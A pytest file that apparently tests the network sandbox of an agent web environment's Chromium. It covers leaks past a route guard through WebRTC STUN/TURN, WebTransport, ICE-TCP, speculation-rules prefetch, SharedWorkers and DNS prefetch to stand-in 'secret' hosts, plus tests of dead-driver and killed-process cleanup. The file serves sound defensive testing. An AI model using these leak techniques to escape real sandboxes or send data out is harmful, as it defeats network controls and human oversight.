"""Attacks on the host through the web envs' Chromium: leaks past the route guard, a dead
driver, a page that never answers, and browsers or folders that outlive the process.

Page script is hostile here: ``_script`` runs JavaScript in the env's page through the
same CDP call the envs use, standing in for a script the site (or text the agent got
into it) would run. Every listener is on 127.0.0.1, so nothing leaves the machine even
where a defence is missing.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest

from tests import system_deps
from tests.envs.web.toy_site import ToyEnv
from turngym.envs.web.axtree import find_id
from turngym.envs.web.browser import BrowserHost, find_chromium

pytestmark = [pytest.mark.browser, system_deps.chromium()]

_REPO = Path(__file__).resolve().parents[2]
_POLLS = 200  # of 0.1 s each: how long a killed process tree may take to go away


def _script(env: Any, js: str, isolated: bool = False) -> Any:
    """Run ``js`` in the env's page, as the page's own script would.

    ``isolated`` runs it in a fresh isolated world instead: same document, globals of its
    own that no init script touched. It stands in for any way a page gets back an API
    that the env's init script takes away, to test the defences behind that script.
    """
    inner = env.unwrapped
    page = inner._page
    if not isolated:
        return inner._host.run(page.evaluate(js))

    async def run() -> Any:
        world = await page._cdp.send(
            "Page.createIsolatedWorld", {"frameId": page._frame, "worldName": "attack"}
        )
        reply = await page._cdp.send(
            "Runtime.evaluate",
            {
                "expression": js,
                "contextId": world["executionContextId"],
                "awaitPromise": True,
                "returnByValue": True,
            },
        )
        assert "exceptionDetails" not in reply, reply
        return reply.get("result", {}).get("value")

    return inner._host.run(run())


@pytest.fixture
def toy() -> Iterator[ToyEnv]:
    env = ToyEnv()
    env.reset(seed=0)
    try:
        yield env
    finally:
        env.close()


@pytest.fixture
def udp() -> Iterator[socket.socket]:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.5)
    try:
        yield sock
    finally:
        sock.close()


@pytest.fixture
def tcp() -> Iterator[socket.socket]:
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    sock.listen(64)
    sock.settimeout(0.5)
    try:
        yield sock
    finally:
        sock.close()


def _datagrams(sock: socket.socket, polls: int = 6) -> list[bytes]:
    """What arrives on ``sock`` during ``polls`` waits of its timeout."""
    got = []
    for _ in range(polls):
        try:
            got.append(sock.recvfrom(4096)[0])
        except TimeoutError:
            continue
    return got


def _connections(sock: socket.socket, polls: int = 6) -> list[bytes]:
    """The first bytes of each connection ``sock`` accepts during ``polls`` waits."""
    got = []
    for _ in range(polls):
        try:
            conn, _ = sock.accept()
        except TimeoutError:
            continue
        with conn:
            conn.settimeout(0.5)
            try:
                got.append(conn.recv(200))
            except OSError:
                got.append(b"")
    return got


# --------------------------------------------------------------------------- UDP


# An RTCPeerConnection gathers candidates from STUN and TURN servers the page names; the
# same from a fresh realm (an about:blank iframe's window), which no init script of the
# outer page touches.
_WEBRTC = """(async () => {{
  const servers = [{{urls: 'stun:127.0.0.1:{port}'}},
                   {{urls: 'turn:127.0.0.1:{port}?transport=udp', username: 'u', credential: 'c'}}];
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const made = [];
  for (const realm of [window, frame.contentWindow]) {{
    const PC = realm.RTCPeerConnection || realm.webkitRTCPeerConnection;
    if (!PC) continue;
    const pc = new PC({{iceServers: servers}});
    pc.createDataChannel('x');
    await pc.setLocalDescription(await pc.createOffer());
    made.push(pc);
  }}
  window.__keep = made;
  await new Promise(r => setTimeout(r, 1000));
  return made.length;
}})()"""


def test_webrtc_sends_no_udp_from_the_page(toy: ToyEnv, udp: socket.socket) -> None:
    # Before: STUN binding requests (20-byte datagrams) reached the listener; the flag
    # --force-webrtc-ip-handling-policy that was meant to stop them is unknown to Chromium.
    port = udp.getsockname()[1]
    assert _script(toy, _WEBRTC.format(port=port)) == 0  # the init script took WebRTC away
    assert _script(toy, _WEBRTC.format(port=port), isolated=True) == 2  # had it anyway
    assert _datagrams(udp) == []


def test_webtransport_sends_no_quic_from_the_page(toy: ToyEnv, udp: socket.socket) -> None:
    # Before: QUIC Initial packets (HTTP/3, UDP) reached the listener.
    port = udp.getsockname()[1]
    attempt = f"""
      try {{ self.__wt = new WebTransport('https://127.0.0.1:{port}/x');
             self.__wt.ready.catch(() => 0); }} catch (e) {{}}"""
    made = _script(
        toy,
        f"""(async () => {{
          const inPage = typeof WebTransport;
          // Workers get no init script: there the page still has WebTransport.
          const code = {json.dumps(attempt)};
          window.__worker = new Worker(URL.createObjectURL(new Blob([code])));
          {attempt}
          await new Promise(r => setTimeout(r, 1000));
          return inPage;
        }})()""",
    )
    assert made == "undefined"
    _script(toy, f"(async () => {{ {attempt} }})()", isolated=True)
    assert _datagrams(udp) == []


# --------------------------------------------------------------------------- TCP, DNS


# Ways a page reaches a loopback port that is not its site without a request that the
# route guard sees: TURN over TCP, ICE-TCP to a remote candidate, speculation-rules
# prefetch and prerender, a SharedWorker's fetch.
_TCP_LEAKS = """(async () => {{
  const target = 'http://127.0.0.1:{port}';
  const turn = new RTCPeerConnection({{iceServers: [
      {{urls: 'turn:127.0.0.1:{port}?transport=tcp', username: 'secret', credential: 'c'}}]}});
  turn.createDataChannel('x');
  await turn.setLocalDescription(await turn.createOffer());
  const local = new RTCPeerConnection(), remote = new RTCPeerConnection();
  local.createDataChannel('y');
  await local.setLocalDescription(await local.createOffer());
  await remote.setRemoteDescription(local.localDescription);
  await local.setRemoteDescription(await remote.createAnswer());
  await local.addIceCandidate({{sdpMid: '0',
      candidate: 'candidate:1 1 tcp 2105524479 127.0.0.1 {port} typ host tcptype passive'}})
      .catch(() => 0);
  window.__keep = [turn, local, remote];
  const rules = document.createElement('script');
  rules.type = 'speculationrules';
  rules.textContent = JSON.stringify({{
      prefetch: [{{source: 'list', urls: [target + '/prefetch?secret']}}],
      prerender: [{{source: 'list', urls: [target + '/prerender?secret']}}]}});
  document.head.append(rules);
  try {{
    const code = "fetch('" + target + "/sharedworker?secret').catch(() => 0)";
    new SharedWorker(URL.createObjectURL(new Blob([code], {{type: 'text/javascript'}})));
  }} catch (e) {{}}
  await new Promise(r => setTimeout(r, 1000));
}})()"""


def test_page_reaches_no_other_loopback_port(toy: ToyEnv, tcp: socket.socket) -> None:
    # Before: a TURN allocation (username and all), an ICE-TCP connection, GET
    # /prefetch, GET /prerender and GET /sharedworker reached the listener.
    port = tcp.getsockname()[1]
    _script(toy, _TCP_LEAKS.format(port=port), isolated=True)
    assert _connections(tcp) == []


def test_page_script_makes_no_dns_query(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Before: Chromium's resolver sent DNS queries for the STUN and TURN host names (a
    # channel out of any network that forwards DNS). Chromium's own net log tells.
    chromium = find_chromium()
    if chromium is None:
        pytest.skip("needs a Chromium binary to wrap (Debian's or $TURNGYM_CHROMIUM)")
    netlog = tmp_path / "net.json"
    wrapper = tmp_path / "chromium"
    wrapper.write_text(f'#!/bin/sh\nexec {chromium} --log-net-log={netlog} "$@"\n')
    wrapper.chmod(0o755)
    monkeypatch.setenv("TURNGYM_CHROMIUM", str(wrapper))
    monkeypatch.setattr(BrowserHost, "_shared", {})  # a browser of its own, with the log
    env = ToyEnv()
    try:
        env.reset(seed=0)
        _script(
            env,
            isolated=True,
            js="""(async () => {
              const pc = new RTCPeerConnection({iceServers: [
                {urls: 'stun:stun-secret.example:3478'},
                {urls: 'turn:turn-secret.example:3478?transport=tcp', username: 'u',
                 credential: 'c'}]});
              pc.createDataChannel('x');
              await pc.setLocalDescription(await pc.createOffer());
              window.__keep = pc;
              for (const rel of ['dns-prefetch', 'preconnect']) {
                const link = document.createElement('link');
                link.rel = rel;
                link.href = '//' + rel + '-secret.example/';
                document.head.append(link);
              }
              await new Promise(r => setTimeout(r, 1500));
            })()""",
        )
    finally:
        env.close()  # Chromium closes the log when it exits
    log = json.loads(netlog.read_text())
    names = {number: name for name, number in log["constants"]["logEventTypes"].items()}
    queries = [
        event.get("params")
        for event in log["events"]
        if names.get(event["type"], "").startswith(("DNS_TRANSACTION", "HOST_RESOLVER_SYSTEM"))
    ]
    assert queries == []


# --------------------------------------------------------------------------- the driver


def _driver_processes() -> list[psutil.Process]:
    """This process's Playwright drivers (node ... run-driver)."""
    found = []
    for proc in psutil.Process().children():
        try:
            if "run-driver" in proc.cmdline() and proc.status() != psutil.STATUS_ZOMBIE:
                found.append(proc)
        except psutil.NoSuchProcess:
            continue
    return found


def _kill_the_driver() -> None:
    drivers = _driver_processes()
    assert len(drivers) == 1, drivers
    drivers[0].kill()
    drivers[0].wait(10)


def test_a_dead_driver_ends_the_step_and_the_next_reset_starts_a_new_one(toy: ToyEnv) -> None:
    # Before: the step blamed the page ("it kept navigating") and every later reset()
    # raised BrowserError: the host kept using the dead driver.
    obs, _ = toy.reset(seed=0)
    _kill_the_driver()
    with pytest.warns(UserWarning, match="driver"):
        obs, reward, terminated, truncated, info = toy.step(
            f"click({find_id(obs, 'button', 'Add one')})"
        )
    assert truncated and not terminated and reward == 0.0
    assert "driver" in info["browser_error"] and "reset()" in obs
    for _ in range(2):
        obs, _ = toy.reset(seed=0)  # a new driver and a new Chromium
        obs, *_, info = toy.step(f"click({find_id(obs, 'button', 'Add one')})")
        assert "Counter: 1" in obs and not info["invalid_action"]
    assert len(_driver_processes()) == 1


def test_a_dead_driver_under_envs_sharing_the_browser() -> None:
    # Before: every sub-env's reset raised BrowserError after the driver died.
    from turngym.envs.vector import ThreadedVectorEnv

    vector = ThreadedVectorEnv([ToyEnv] * 3)
    try:
        obs, _ = vector.reset(seed=0)
        _kill_the_driver()
        with pytest.warns(UserWarning, match="driver"):
            _, _, terminated, truncated, infos = vector.step(["noop()"] * 3)
        assert truncated.all() and not terminated.any()
        assert all("driver" in str(e) for e in infos["browser_error"])
        obs, _, _, truncated, _ = vector.step(["noop()"] * 3)  # the autoreset
        assert not truncated.any() and all("button 'Add one'" in o for o in obs)
        actions = [f"click({find_id(o, 'button', 'Add one')})" for o in obs]
        obs, _, _, _, infos = vector.step(actions)
        assert all("Counter: 1" in o for o in obs) and not infos["invalid_action"].any()
        assert len(_driver_processes()) == 1
    finally:
        vector.close()


def test_a_page_script_that_never_returns_hangs_one_step_only(toy: ToyEnv) -> None:
    # Before: the step timed out, but reset() kept the spinning page and raised
    # BrowserError ("the page did not load") at every later reset.
    inner = toy.unwrapped
    inner.action_timeout_s = 3.0
    _script(toy, "setTimeout(() => { while (true) {} }, 0); null")
    with pytest.warns(UserWarning, match="did not answer"):
        _, _, terminated, truncated, info = toy.step("noop()")
    assert truncated and not terminated and "did not answer" in info["browser_error"]
    del inner.action_timeout_s  # back to the class's: a loaded machine is slow, not stuck
    obs, _ = toy.reset(seed=0)
    obs, *_ = toy.step(f"click({find_id(obs, 'button', 'Add one')})")
    assert "Counter: 1" in obs


# --------------------------------------------------------------------------- SIGKILL


_CHILD = textwrap.dedent(
    """
    import json, sys, time
    import psutil
    from tests.envs.web.toy_site import ToyEnv
    env = ToyEnv()
    env.reset(seed=0)
    tree = [(p.pid, p.name()) for p in psutil.Process().children(recursive=True)]
    print(json.dumps(tree), flush=True)
    if sys.argv[1] == "wait":
        time.sleep(600)
    env.close()
    """
)


@pytest.fixture
def short_tmp() -> Iterator[Path]:
    """A TMPDIR for a child process, short enough for Chromium's socket path in it."""
    folder = Path(tempfile.mkdtemp(prefix="tgw-", dir="/tmp"))
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def _run_child(tmp: Path, mode: str, **popen: Any) -> tuple[subprocess.Popen[str], list]:
    """A process that makes a web env (temp folders in ``tmp``); its process tree.

    ``mode`` "wait": it waits to be killed; "close": it closes the env and exits.
    """
    env = {**os.environ, "TMPDIR": str(tmp), "PYTHONPATH": str(_REPO)}
    child = subprocess.Popen(
        [sys.executable, "-c", _CHILD, mode], stdout=subprocess.PIPE, text=True, env=env, **popen
    )
    assert child.stdout is not None
    line = child.stdout.readline()
    assert line, "the child process did not start its env"
    return child, json.loads(line)


def _running(pids: list[int]) -> list[int]:
    alive = []
    for pid in pids:
        try:
            if psutil.Process(pid).status() != psutil.STATUS_ZOMBIE:
                alive.append(pid)
        except psutil.NoSuchProcess:
            continue
    return alive


def _gone(pids: list[int], tmp: Path) -> tuple[list[int], list[str]]:
    """Wait (a bounded number of polls) for the processes and ``tmp``'s folders to go."""
    for _ in range(_POLLS):
        alive, left = _running(pids), sorted(p.name for p in tmp.iterdir())
        if not alive and not left:
            break
        time.sleep(0.1)
    return alive, left


def _cleanup(pids: list[int]) -> None:
    """Kill what a failed defence left (so one failure does not leak into other tests)."""
    for pid in _running(pids):
        with contextlib.suppress(psutil.NoSuchProcess):
            psutil.Process(pid).kill()


def test_a_sigkilled_env_process_leaves_no_browser_and_no_folder(short_tmp: Path) -> None:
    # Before: its turngym-web-* database folder stayed behind.
    child, tree = _run_child(short_tmp, "wait")
    pids = [pid for pid, _ in tree]
    assert any("chrom" in name for _, name in tree)
    child.kill()
    child.wait()
    child.stdout.close()
    alive, left = _gone(pids, short_tmp)
    _cleanup(pids)
    assert alive == [] and left == []


def test_a_group_kill_with_a_frozen_browser_leaves_nothing(short_tmp: Path) -> None:
    # A scheduler kills the job's process group while Chromium does not answer (stopped
    # here): before, Chromium stayed forever, with the driver's profile and artifact
    # folders and the database folder.
    child, tree = _run_child(short_tmp, "wait", start_new_session=True)
    pids = [pid for pid, _ in tree]
    chromium = [pid for pid, name in tree if "chrom" in name]
    assert chromium
    for pid in chromium:
        os.kill(pid, signal.SIGSTOP)
    os.killpg(child.pid, signal.SIGKILL)
    child.wait()
    child.stdout.close()
    alive, left = _gone(pids, short_tmp)
    _cleanup(pids)
    assert alive == [] and left == []


def test_stale_web_folders_of_dead_processes_are_swept(short_tmp: Path) -> None:
    # Before: folders of killed processes piled up; nothing ever removed them.
    dead = subprocess.Popen(["true"])
    dead.wait()
    stale = short_tmp / f"turngym-web-{dead.pid}.1-stale"
    (stale / "profile").mkdir(parents=True)
    (stale / "profile" / "data").write_text("left by a killed run")
    child, _ = _run_child(short_tmp, "close")
    assert child.wait(120) == 0
    child.stdout.close()
    assert sorted(p.name for p in short_tmp.iterdir()) == []
